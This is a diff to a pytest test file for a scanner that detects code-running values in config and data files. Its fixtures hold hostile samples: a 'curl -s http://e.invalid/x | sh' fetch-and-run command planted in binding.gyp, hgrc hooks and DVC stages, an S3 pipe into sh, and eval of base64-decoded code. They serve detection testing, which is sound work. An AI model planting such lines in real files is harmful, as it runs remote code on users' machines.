@@ -234,6 +234,7 @@ FETCH = "curl -s http://e.invalid/x | sh"
         ("binding.gyp", f"# x\n{{'targets': [{{'sources': ['<!({FETCH})'],}}]}}\n"),
         ("hgrc", f"[hooks]\nupdate = {FETCH}\n"),
         (".hg/hgrc", f"[alias]\nst = !{FETCH}\n"),
+        ("data.yaml", "x: 'pipe:aws s3 cp s3://e/x - | sh'\n"),
         ("dvc.yaml", "vars:\n- a: 'curl -s http://e.invalid/x '\n  b: '| sh'\nstages: {s: {cmd: '${a}${b}'}}\n"),
     ],
 )
@@ -251,14 +252,16 @@ def test_value_that_fetches_and_runs_a_program_fails_the_scan_whatever_its_key(t
         ("a.json", json.dumps({"about": f"# Usage\n```\n{FETCH}\n```\n"})),
         ("a.json", json.dumps({"about": f"To install it, run {FETCH}"})),
         ("a.jsonl", json.dumps({"row": FETCH}) + "\n" + json.dumps({"row": "x"}) + "\n"),
-        ("a.yaml", "x: curl -s https://e.invalid/x.json | jq .\n"),
+        ("a.yaml", "x: curl -s https://e.invalid/x.json | jq .\ny: 'pipe:gsutil cat gs://a/b.tar'\n"),
     ],
 )
 def test_prose_or_a_harmless_command_under_a_key_without_a_command_word_passes(tmp_path, name, text):
     assert scan_text(tmp_path, name, text) == (0, set())
 
 
-@pytest.mark.parametrize(("command", "code"), [("${a}${b}", 3), ("echo a; ${a}", 3), ("python train.py --lr ${lr}", 0)])
+@pytest.mark.parametrize(
+    ("command", "code"), [("${a}${b}", 3), ("echo a; ${a}", 3), ("python ${a}", 3), ("python train.py --lr ${lr}", 0)]
+)
 def test_command_of_dvc_whose_program_another_file_defines_is_an_absence(tmp_path, command, code):
     assert scan_text(tmp_path, "dvc.yaml", f"stages:\n  s:\n    cmd: {command}\n")[0] == code
 
@@ -288,6 +291,7 @@ def test_python_program_that_a_tool_takes_from_a_setting_fails_the_scan_if_it_ru
         ("data.yaml", "download: |\n  from ultralytics.utils.downloads import download\n  download('x')\n", set()),
         ("data.yaml", "download: |\n  import shutil\n  shutil.rmtree('x')\n", {"code/changes-files"}),
         ("yolo.yaml", "activation: torch.nn.SiLU()\n", set()),
+        ("a.json", json.dumps({"x": "eval(config)", "y": "codecs.decode(x)"}), set()),
         ("a.json", json.dumps({"activation": "relu", "nested": {"download": "os.system('id')"}}), set()),
         (".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n", set()),
         ("a.json", json.dumps({"solution": f"import os\nos.system('{FETCH}')"}), set()),
@@ -337,3 +341,8 @@ def test_base_weights_or_data_set_class_from_elsewhere_is_judged_by_what_the_loa
     tmp_path, name, text, code, rules
 ):
     assert scan_text(tmp_path, name, text) == (code, rules)
+
+
+def test_value_that_evaluates_what_it_decodes_fails_the_scan_whatever_its_key(tmp_path):
+    text = json.dumps({"transform": "eval(__import__('base64').b64decode('aWQ='))"})
+    assert scan_text(tmp_path, "a.json", text) == (1, {"code/runs-decoded-code"})
